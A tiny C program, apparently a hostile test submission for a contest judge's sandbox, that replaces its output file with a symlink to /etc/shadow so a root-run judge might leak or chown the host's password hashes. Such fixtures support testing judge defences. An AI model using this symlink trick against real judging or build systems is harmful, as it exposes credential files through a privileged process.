/* Hostile: leaves its output file as a symlink to a host secret, hoping the runner (root) reads it back as
 * the output excerpt, chowns it to the slot's user, or binds it into the checker. */
#include <stdio.h>
#include <unistd.h>
int main(void) {
  unlink("aplusb.out");
  return symlink("/etc/shadow", "aplusb.out") == 0 ? 0 : 1;
}
